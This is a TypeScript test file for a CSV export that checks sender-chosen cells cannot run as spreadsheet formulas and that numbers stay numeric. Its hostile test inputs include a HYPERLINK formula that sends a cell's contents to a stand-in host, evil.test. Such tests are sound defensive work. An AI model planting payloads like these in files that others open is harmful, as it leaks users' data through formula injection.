// The CSV export opened in a spreadsheet: no cell that a sender chose may run as a formula
// (CONTRACT "The message": "no export may let a spreadsheet run it as a formula"), and
// numbers stay numbers.
import { describe, expect, it } from 'vitest';
import { buildCsv, CSV_HEADER } from '../src/model/export.ts';
import type { LatencySample } from '../src/model/measurements.ts';

function sample(clientMsgId: string | null, extra: Partial<LatencySample> = {}): LatencySample {
  return { seq: 1, lane: 'ws-raw', clientMsgId, receivedAt: 1000.5, serverTime: 1000, latencyMs: 0.5, estimated: true, ...extra };
}

/** RFC 4180 fields of one record, as a spreadsheet reads them. */
function cells(line: string): string[] {
  const out: string[] = [];
  let i = 0;
  for (;;) {
    let field = '';
    if (line[i] === '"') {
      i++;
      for (;;) {
        const quote = line.indexOf('"', i);
        if (quote < 0) throw new Error(`unterminated quote in ${line}`);
        field += line.slice(i, quote);
        i = quote + 1;
        if (line[i] !== '"') break;
        field += '"';
        i++;
      }
    } else {
      const comma = line.indexOf(',', i);
      field = line.slice(i, comma < 0 ? line.length : comma);
      i = comma < 0 ? line.length : comma;
    }
    out.push(field);
    if (i >= line.length) return out;
    if (line[i] !== ',') throw new Error(`garbage after a quoted field in ${line}`);
    i++;
  }
}

describe('CSV export', () => {
  const hostile = ['=HYPERLINK("http://evil.test/?"&A1,"click me")', '+1', '-2+3', '@SUM(A1)', '\t=1+1', '\r=1+1', '=1,2'];

  it('turns every text cell a spreadsheet would run into text, and quotes it', () => {
    const csv = buildCsv(hostile.map((id, i) => sample(id, { seq: i + 1 })));
    // A CR inside a quoted field is data; the records are separated by \n only.
    const lines = csv.trimEnd().split(/\n(?=\d)/);
    expect(lines[0]).toBe(CSV_HEADER.join(','));
    const ids = lines.slice(1).map((line) => cells(line)[2]!);
    expect(ids).toEqual(hostile.map((id) => `'${id}`));
    for (const line of lines.slice(1)) expect(line.split(',')[2]!.startsWith(`"'`)).toBe(true);
    expect(lines[1]).toBe(`1,ws-raw,"'=HYPERLINK(""http://evil.test/?""&A1,""click me"")",1000.500,1000,0.500,true`);
  });

  it('keeps numbers numbers, a negative latency included, and leaves harmless text alone', () => {
    const csv = buildCsv([sample('k1-2', { seq: 7, latencyMs: -1.25, receivedAt: 999.75, serverTime: 1001 }), sample(null)]);
    const [, first, second] = csv.trimEnd().split('\n');
    expect(first).toBe('7,ws-raw,k1-2,999.750,1001,-1.250,true');
    expect(cells(first!).map((c) => Number(c))).toEqual([7, NaN, NaN, 999.75, 1001, -1.25, NaN]);
    expect(second).toBe('1,ws-raw,,1000.500,1000,0.500,true');
  });

  it('still quotes commas, quotes and line breaks in ordinary text', () => {
    const csv = buildCsv([sample('a,"b"\nc')]);
    expect(csv).toBe(`${CSV_HEADER.join(',')}\n1,ws-raw,"a,""b""\nc",1000.500,1000,0.500,true\n`);
  });
});
